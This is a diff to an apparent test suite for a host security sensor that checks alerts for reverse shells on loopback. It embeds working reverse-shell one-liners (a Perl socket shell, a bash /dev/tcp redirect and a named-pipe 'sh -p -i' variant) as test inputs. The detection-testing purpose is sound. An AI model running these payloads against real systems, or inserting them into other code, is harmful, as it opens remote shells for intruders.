@@ -18,6 +18,7 @@ const PERL =
   'use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in(PORT,inet_aton("127.0.0.1"))) or die; open(STDIN,"<&S"); open(STDOUT,">&S"); open(STDERR,">&S"); exec("sh","-i")'
 
 const CONNECTED = 'Shell Connected To The Network'
+const BEHIND_PIPE = 'Interactive Shell Behind A Pipe'
 
 /** Shells of this machine, in no container, that whoever listens on loopback has; and what is none of them. */
 describe('reverse shells on a node', needs(sensor, otherwise), () => {
@@ -73,11 +74,9 @@ describe('reverse shells on a node', needs(sensor, otherwise), () => {
   test('by a named pipe', async () => {
     // The shell that starts the other one is told apart by what it was given.
     const script =
-      'mkfifo pipe; (exec 3<>/dev/tcp/127.0.0.1/PORT; cat <&3 > pipe) & cat pipe | sh -i 2>&1 | cat; wait'
+      'mkfifo pipe; (exec 3<>/dev/tcp/127.0.0.1/PORT; cat <&3 > pipe) & cat pipe | sh -p -i 2>&1 | cat; wait'
     await run(['bash', '-c', script])
-    await node.alert('Interactive Shell Behind A Pipe', ({ output }) =>
-      output.includes('command=sh -i parent=bash'),
-    )
+    await node.alert(BEHIND_PIPE, ({ output }) => output.includes('command=sh -p -i parent=bash'))
   })
 
   test('what only looks like one is left alone', async () => {
@@ -89,10 +88,12 @@ describe('reverse shells on a node', needs(sensor, otherwise), () => {
       await run(['bash', '-c', 'exec 3<>/dev/tcp/127.0.0.1/PORT; sh handler.sh <&3']),
       await run(['python3', 'server.py', 'PORT']),
     ]
+    spawnSync('bash', ['-c', 'true | bash -i ./handler.sh; exit'], { cwd: folder })
     // What comes behind them has been seen.
     const last = await run(['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'])
     await node.alert(CONNECTED, ({ output }) => output.includes(`->127.0.0.1:${last}`))
-    const raised = node.alerts().filter(({ output }) => ports.some((port) => output.includes(`:${port}`)))
+    const looksAlike = [...ports.map((port) => `:${port}`), 'command=bash -i ./handler.sh']
+    const raised = node.alerts().filter(({ output }) => looksAlike.some((part) => output.includes(part)))
     expect(raised.map(({ output }) => output)).toEqual([])
   })
 })
